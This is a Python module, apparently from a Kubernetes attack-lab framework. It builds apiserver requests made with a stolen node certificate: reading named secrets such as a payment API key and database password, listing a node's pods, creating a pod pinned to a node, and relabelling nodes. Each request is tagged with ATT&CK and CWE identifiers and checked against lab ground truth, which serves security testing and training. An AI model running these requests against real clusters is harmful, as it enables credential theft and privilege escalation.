"""Requests to the apiserver with a stolen certificate: secrets, pods and nodes."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import TYPE_CHECKING, Any

from labkit.errors import ProbeError
from labkit.lab.traces import Trace
from labkit.model.decision import Action
from labkit.techniques._lib.api.breakout import PLAIN, plain_pod
from labkit.techniques._lib.api.stolen_certificate import ApiRequest
from labkit.techniques._lib.machines.admin import read
from labkit.techniques._lib.machines.reach import Answer
from labkit.techniques._lib.stores.secret import true_secret
from labkit.techniques._lib.technique import SECRETS

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = [
    "CARD",
    "DATABASE",
    "LABEL",
    "MERGE",
    "OTHER",
    "create_pod",
    "label_node",
    "labels",
    "list_pods",
    "pods_on",
    "read_secret",
]

#: Namespace, name and key of a secret that a pod on worker2 uses, and one on worker1.
CARD = ("payments", "card-processor", "api-key")
DATABASE = ("shop", "db-credentials", "password")
#: A node whose certificate is not stolen, and an ordinary label.
OTHER, LABEL = "worker2", "labkit-attack"
MERGE = ("--header", "Content-Type: application/merge-patch+json")


def read_secret(namespace: str, name: str, key: str) -> ApiRequest:
    """Return the request that reads a secret by its name."""

    def proof(lab: Lab) -> Callable[[Answer], str]:
        secret = true_secret(lab, namespace, name, key)

        def found(answer: Answer) -> str:
            if not secret.found_in(answer.body):
                raise ProbeError("the apiserver answered, but not with the secret")
            return f"read: {secret.proof}"

        return found

    return ApiRequest(
        Action("get", "secrets", namespace=namespace, name=name),
        f"/api/v1/namespaces/{namespace}/secrets/{name}",
        proof,
        attack=("T1552.004", "T1552.007"),
        stride=("information disclosure", "elevation of privilege"),
        cwe=("CWE-269", "CWE-732"),
        grants=(SECRETS,),
    )


def list_pods(node: str) -> ApiRequest:
    """Return the request that lists the pods of a node, with images, arguments and accounts."""

    def proof(lab: Lab) -> Callable[[Answer], str]:
        expected = _names(read(lab, pods_on(node)), node)

        def found(answer: Answer) -> str:
            found_names = _names(json.loads(answer.body), node)
            if not expected or not expected <= found_names:
                raise ProbeError(f"the apiserver answered, but not with the pods of {node}")
            return f"read the pods of {node}: {', '.join(sorted(expected))}"

        return found

    return ApiRequest(
        Action("list", "pods"),
        pods_on(node),
        proof,
        attack=("T1613",),
        stride=("information disclosure",),
        machines=_not_in_every_lab(node),
    )


def create_pod(node: str) -> ApiRequest:
    """Return the request that creates a pod already bound to a node, without the scheduler."""

    def proof(lab: Lab) -> Callable[[Answer], str]:
        def found(answer: Answer) -> str:
            made = json.loads(answer.body)
            if made.get("kind") != "Pod" or made["spec"].get("nodeName") != node:
                raise ProbeError(f"the apiserver answered, but with no pod on {node}")
            return f"created a pod on {node}"

        return found

    namespace, name = PLAIN
    pods = f"/api/v1/namespaces/{namespace}/pods"
    return ApiRequest(
        Action("create", "pods", namespace=namespace),
        pods,
        proof,
        attack=("T1610",),
        stride=("tampering", "elevation of privilege"),
        body=json.dumps(plain_pod(node)).encode(),
        leaves=(Trace("object", f"{pods}/{name}"),),
        machines=_not_in_every_lab(node),
    )


def label_node(node: str, label: str = LABEL) -> ApiRequest:
    """Return the request that sets a label on a node; labels decide which pods it gets."""
    path = f"/api/v1/nodes/{node}"

    def proof(lab: Lab) -> Callable[[Answer], str]:
        def found(answer: Answer) -> str:
            if label not in json.loads(answer.body)["metadata"]["labels"]:
                raise ProbeError(f"the apiserver answered, but {node} has no such label")
            return f"labelled {node} with {label}"

        return found

    return ApiRequest(
        Action("patch", "nodes", name=node),
        path,
        proof,
        attack=("T1098", "T1565.001"),
        stride=("tampering", "elevation of privilege"),
        method="PATCH",
        body=labels(label),
        options=MERGE,
        leaves=(Trace("label", f"{path} {label}"),),
        machines=_not_in_every_lab(node),
    )


def labels(label: str) -> bytes:
    """Return the patch that sets a label."""
    return json.dumps({"metadata": {"labels": {label: "1"}}}).encode()


def pods_on(node: str) -> str:
    """Return the path that lists the pods of a node."""
    return f"/api/v1/pods?fieldSelector=spec.nodeName%3D{node}"


def _not_in_every_lab(node: str) -> tuple[str, ...]:
    return (node,) if node == OTHER else ()


def _names(listed: Any, node: str) -> set[str]:
    items = listed.get("items", ())
    return {pod["metadata"]["name"] for pod in items if pod["spec"].get("nodeName") == node}
